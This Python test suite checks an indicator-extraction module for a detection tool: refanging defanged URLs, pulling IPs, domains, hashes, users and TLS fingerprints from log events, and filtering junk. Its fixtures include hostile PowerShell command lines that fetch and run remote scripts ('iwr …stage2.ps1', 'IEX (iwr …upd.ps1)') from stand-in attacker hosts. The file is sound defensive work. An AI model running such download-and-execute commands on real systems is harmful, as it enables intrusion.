"""Observable extraction: structured fields, free text, refanging, junk filtering, on every format."""

from __future__ import annotations

import gzip
from pathlib import Path
from typing import Any

import orjson
import pytest

from bastion.ingest.normalize import normalize
from bastion.ingest.observables import extract_observables, refang, scan_text
from bastion.model import Actor, Endpoint, Event, File, Observable, ObservableType, Process, Url, User

T = ObservableType
DATA = Path(__file__).resolve().parents[2].parent / "shared" / "data"
SAMPLES = DATA / "evtx-attack-samples" / "events.jsonl.gz"


def _pairs(observables: list[Observable]) -> set[tuple[str, str]]:
    return {(o.type.value, o.value) for o in observables}


def _by(observables: list[Observable], kind: ObservableType) -> set[str]:
    return {o.value for o in observables if o.type == kind}


@pytest.fixture(scope="module")
def samples() -> list[dict[str, Any]]:
    if not SAMPLES.is_file():
        pytest.fail(f"attack samples missing: expected {SAMPLES} (../shared/data beside the repo)")
    with gzip.open(SAMPLES) as fh:
        return [orjson.loads(line) for line in fh]


def test_refang() -> None:
    assert refang("hxxps://evil[.]example[.]com/a") == "https://evil.example.com/a"
    assert refang("1.2.3[.]4") == "1.2.3.4"
    assert refang("bob(at)corp(dot)com") == "bob@corp.com"
    assert refang("hXXp[:]//a(.)b{.}c[dot]d[/]e fxp://x[@]y") == "http://a.b.c.d/e ftp://x@y"
    assert refang("plain text (nothing) [here]") == "plain text (nothing) [here]"


def test_defanged_text_is_extracted_refanged() -> None:
    found = set(scan_text("C2 at hxxps://evil[.]example[.]com/a and 1.2.3[.]4, mail bob(at)corp(dot)com"))
    assert (T.URL, "https://evil.example.com/a") in found
    assert (T.DOMAIN, "evil.example.com") in found
    assert (T.IPV4, "1.2.3.4") in found
    assert (T.EMAIL, "bob@corp.com") in found
    assert (T.DOMAIN, "corp.com") in found


def test_process_creation_with_ip_and_url_in_command_line() -> None:
    event = Event(
        format="windows",
        process=Process(
            name="powershell.exe",
            path="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            cmd_line='powershell -c "iwr http://203.0.113.7:8080/stage2.ps1 -OutFile C:\\Temp\\s.ps1; '
            'Test-NetConnection 198.51.100.20 -Port 445; nslookup update.evil-cdn.net"',
            user=User(name="alice", domain="CORP"),
            parent_process=Process(
                name="cmd.exe",
                path="C:\\Windows\\System32\\cmd.exe",
                cmd_line="cmd.exe /c start powershell.exe",
            ),
        ),
        actor=Actor(user=User(name="CORP\\Alice")),
        file=File(
            path="C:\\Windows\\System32\\kernel32.dll",
            hashes={"md5": "33FACAAB13A58251BF45E9AC958B15FA", "imphash": "98526F50539626C2E9C93297FE2AF83B"},
        ),
    )
    obs = extract_observables(event)
    assert _by(obs, T.URL) == {"http://203.0.113.7:8080/stage2.ps1"}
    assert _by(obs, T.IPV4) == {"203.0.113.7", "198.51.100.20"}
    assert _by(obs, T.DOMAIN) == {"update.evil-cdn.net"}  # never cmd.exe, powershell.exe, kernel32.dll, s.ps1
    assert _by(obs, T.PROCESS_NAME) == {"powershell.exe", "cmd.exe"}
    assert "C:\\Windows\\System32\\kernel32.dll" in _by(obs, T.FILE_PATH)
    assert _by(obs, T.USER) == {"alice"}  # CORP\Alice and alice are the same user
    assert _by(obs, T.MD5) == {"33facaab13a58251bf45e9ac958b15fa"}  # the imphash is not an md5
    fields = {(o.type, o.value): o.field for o in obs}
    assert fields[(T.IPV4, "198.51.100.20")] == "process.cmd_line"
    assert fields[(T.USER, "alice")] == "actor.user.name"
    assert fields[(T.PROCESS_NAME, "cmd.exe")] == "process.parent_process.path"
    assert len(obs) == len(_pairs(obs))  # de-duplicated


def test_file_names_are_not_domains() -> None:
    text = (
        "C:\\Windows\\System32\\cmd.exe /c rundll32.exe C:\\Windows\\System32\\kernel32.dll,Sleep & "
        "System32.dll archive.zip setup.py run.sh notes.md x.app report.docx "
        "[System.Net.WebClient]::new() $wc.DownloadFile('a') [System.IO.File]::Exists('c:\\a.com')"
    )
    assert [v for k, v in scan_text(text) if k == T.DOMAIN] == []
    # ... while real names with file-extension TLDs still count in a URL or with www.
    found = set(scan_text("get https://files.evil.zip/x and www.bad.sh"))
    assert {(T.DOMAIN, "files.evil.zip"), (T.DOMAIN, "www.bad.sh")} <= found


def test_refang_star_and_scheme_case() -> None:
    assert refang("h**ps://evil[.]com/a") == "https://evil.com/a"
    assert refang("HXXPS://evil[.]com") == "https://evil.com"
    assert refang("FXPs[:]//x") == "ftps://x"


@pytest.mark.parametrize("tld", ["test", "example", "invalid"])
def test_special_use_tlds_are_domains(tld: str) -> None:
    """RFC 2606 / 6761 names, as documentation and the demo data use them, are domains like any other."""
    name = f"cdn.fastupdate-cdn.{tld}"
    dns = extract_observables(Event(format="windows", query=name))
    assert _pairs(dns) == {("domain", name)}
    url = Url(url_string=f"https://{name}/s/upd.ps1", hostname=name)
    web = extract_observables(Event(format="ecs", url=url))
    assert ("domain", name) in _pairs(web)
    assert ("host", name) not in _pairs(web)
    assert (T.DOMAIN, name) in set(scan_text(f"IEX (iwr https://{name}/s/upd.ps1)"))
    assert (T.DOMAIN, f"www.evil.{tld}") in set(scan_text(f"see www.evil.{tld} now"))
    # ... but in free text a bare x.example / x.test is a file name (config.example), as for .zip
    assert [v for k, v in scan_text(f"copy config.{tld} app.conf.{tld}") if k == T.DOMAIN] == []


def test_localhost_is_not_a_domain() -> None:
    assert _pairs(extract_observables(Event(format="windows", query="localhost"))) == set()
    found = extract_observables(Event(format="windows", query="db.localhost"))
    assert _pairs(found) == {("host", "db.localhost")}


def test_ipv6_hashes_emails_and_junk() -> None:
    text = (
        "from 2001:db8:85a3::8a2e:370:7334 and ::ffff:192.0.2.44 to fe80::1%12; loopback ::1 127.0.0.1 "
        "0.0.0.0 255.255.255.255 224.0.0.252; at 12:30:45 mac 00:11:22:33:44:55 "
        "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 "
        "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709 zero 00000000000000000000000000000000 "
        "contact SOC.Team@Example.ORG version 10.0.17763.0 Version=4.0.0.0"
    )
    found = set(scan_text(text))
    assert (T.IPV6, "2001:db8:85a3::8a2e:370:7334") in found
    assert (T.IPV4, "192.0.2.44") in found  # IPv4-mapped
    assert (T.IPV6, "fe80::1") in found
    assert (T.SHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855") in found
    assert (T.SHA1, "da39a3ee5e6b4b0d3255bfef95601890afd80709") in found
    assert (T.EMAIL, "soc.team@example.org") in found
    values = {v for _, v in found}
    for junk in (
        "::1",
        "127.0.0.1",
        "0.0.0.0",
        "255.255.255.255",
        "224.0.0.252",
        "00000000000000000000000000000000",
        "4.0.0.0",
        "12:30:45",
        "00:11:22:33:44:55",
    ):
        assert junk not in values


def test_users_placeholders_and_hosts() -> None:
    event = Event(
        actor=Actor(user=User(name="NT AUTHORITY\\SYSTEM")),
        src_endpoint=Endpoint(ip="-", hostname="WKS-0042"),
        dst_endpoint=Endpoint(ip="::1", hostname="mail.example.com", port=25),
        process=Process(user=User(name="S-1-5-18"), name="svchost.exe"),
        url=Url(url_string="C:\\not\\a\\url"),
    )
    obs = extract_observables(event)
    assert _by(obs, T.USER) == set()
    assert _by(obs, T.IPV6) == set() and _by(obs, T.URL) == set()
    assert _by(obs, T.HOST) == {"wks-0042", "mail.example.com"}
    assert _by(obs, T.DOMAIN) == {"mail.example.com"}
    assert _by(obs, T.PROCESS_NAME) == {"svchost.exe"}
    upn = extract_observables(Event(actor=Actor(user=User(name="Alice@Corp.Example.com"))))
    assert _pairs(upn) == {("email", "alice@corp.example.com"), ("user", "alice")}


def test_text_records_scan_raw() -> None:
    line = "<134>Nov 14 22:13:20 fw01 kernel: DROP SRC=198.51.100.4 DST=10.0.0.8 host=c2.bad-example.com"
    event = Event(format="syslog", raw=line)
    assert {(T.IPV4, "198.51.100.4"), (T.IPV4, "10.0.0.8"), (T.DOMAIN, "c2.bad-example.com")} <= {
        (o.type, o.value) for o in extract_observables(event)
    }


def test_windows_samples(samples: list[dict[str, Any]]) -> None:
    events = [normalize(record) for record in samples]
    regsvr = next(
        e
        for e in events
        if e.process
        and e.process.cmd_line
        and "pastebin.com/raw/H4A4iDTA" in e.process.cmd_line
        and e.metadata.event_code == "1"
    )
    obs = extract_observables(regsvr)
    assert ("url", "http://pastebin.com/raw/H4A4iDTA") in _pairs(obs)
    assert ("domain", "pastebin.com") in _pairs(obs)
    assert ("process_name", "regsvr32.exe") in _pairs(obs)
    assert ("user", "ieuser") in _pairs(obs)
    assert ("host", "iewin7") in _pairs(obs)
    hashes = regsvr.file.hashes
    for algo in ("md5", "sha1", "sha256"):
        assert (algo, hashes[algo]) in _pairs(obs)
    dns = next(e for e in events if e.metadata.event_code == "22" and e.query == "wpad")
    assert ("host", "wpad") in _pairs(extract_observables(dns))
    logon = next(
        e
        for e in events
        if e.metadata.event_code == "4624" and e.src_endpoint and e.src_endpoint.ip == "172.16.66.37"
    )
    assert {("ipv4", "172.16.66.37"), ("user", "administrator")} <= _pairs(extract_observables(logon))
    # across every sample: no file name taken for a domain, no junk address, no SID user
    for event in events:
        obs = extract_observables(event)
        names = {v.rsplit("\\", 1)[-1].lower() for v in _by(obs, T.FILE_PATH)}
        assert not (_by(obs, T.DOMAIN) & names)
        assert not {"127.0.0.1", "0.0.0.0", "::1"} & (_by(obs, T.IPV4) | _by(obs, T.IPV6))
        assert not any(u.startswith("s-1-") or u == "-" for u in _by(obs, T.USER))
        assert all(o.field for o in obs)
        assert len(obs) == len(_pairs(obs))


def test_ecs_and_ocsf_extras() -> None:
    ecs = normalize(
        {
            "@timestamp": "2023-03-14T09:26:53Z",
            "event": {"category": ["network"]},
            "related": {
                "ip": ["192.0.2.77"],
                "hosts": ["files.example.net"],
                "user": ["CORP\\carol"],
                "hash": ["a" * 40],
            },
        }
    )
    assert {
        ("ipv4", "192.0.2.77"),
        ("domain", "files.example.net"),
        ("user", "carol"),
        ("sha1", "a" * 40),
    } <= (_pairs(extract_observables(ecs)))
    ocsf = normalize(
        {
            "class_uid": 3002,
            "time": 1700000000000,
            "user": {"name": "dave@example.com"},
            "observables": [
                {"name": "src_endpoint.ip", "type_id": 2, "value": "198.51.100.23"},
                {"name": "file.hash", "type_id": 8, "value": "b" * 64},
            ],
        }
    )
    assert {
        ("email", "dave@example.com"),
        ("user", "dave"),
        ("ipv4", "198.51.100.23"),
        ("sha256", "b" * 64),
    } <= (_pairs(extract_observables(ocsf)))


JA3 = "e7d705a3286e19ea42f587b344ee6865"
JA4 = "t13d1516h2_8daaf6152771_b186095e22b6"


def test_tls_fingerprints_from_ecs_ocsf_and_zeek_style_json() -> None:
    """JA3 and JA4 client fingerprints, where each shape keeps them; junk in those fields is not one."""
    ecs = normalize(
        {"@timestamp": "2026-11-30T10:00:00Z", "ecs": {"version": "8.11"}, "event": {"kind": "event"},
         "source": {"ip": "10.0.0.5"}, "tls": {"client": {"ja3": JA3.upper(), "ja4": JA4}}},
        "ecs",
    )  # fmt: skip
    ocsf = normalize(
        {"class_uid": 4001, "time": 1796032800000, "metadata": {"version": "1.1.0"},
         "tls": {"ja3_hash": {"value": JA3, "algorithm_id": 1}}},
        "ocsf",
    )  # fmt: skip
    zeek = normalize({"ts": 1796032800.5, "id.orig_h": "10.0.0.5", "ja3": JA3, "ja4": "not-a-ja4"}, "generic")
    assert {(o.type, o.value) for o in extract_observables(ecs)} >= {
        (ObservableType.JA3, JA3),
        (ObservableType.JA4, JA4),
    }
    assert (ObservableType.JA3, JA3) in {(o.type, o.value) for o in extract_observables(ocsf)}
    found = {(o.type, o.value) for o in extract_observables(zeek)}
    assert (ObservableType.JA3, JA3) in found
    assert not any(t is ObservableType.JA4 for t, _ in found)
